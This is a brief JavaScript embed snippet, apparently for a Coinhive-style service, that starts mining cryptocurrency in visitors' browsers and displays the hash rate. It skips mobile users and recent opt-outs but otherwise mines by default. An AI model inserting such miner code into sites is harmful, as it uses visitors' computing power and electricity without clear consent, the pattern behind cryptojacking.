// A page's snippet for a service of the Coinhive kind.
(function () {
  var miner = new CoinHive.Anonymous('SITE-KEY-OF-OWNER', { throttle: 0.3, threads: 4 });
  if (!miner.isMobile() && !miner.didOptOut(14400)) {
    miner.on('found', function () { console.log('found'); });
    miner.start(CoinHive.FORCE_MULTI_TAB);
  }
  setInterval(function () {
    document.getElementById('rate').textContent = miner.getHashesPerSecond() + ' / ' + miner.getTotalHashes();
  }, 1000);
})();
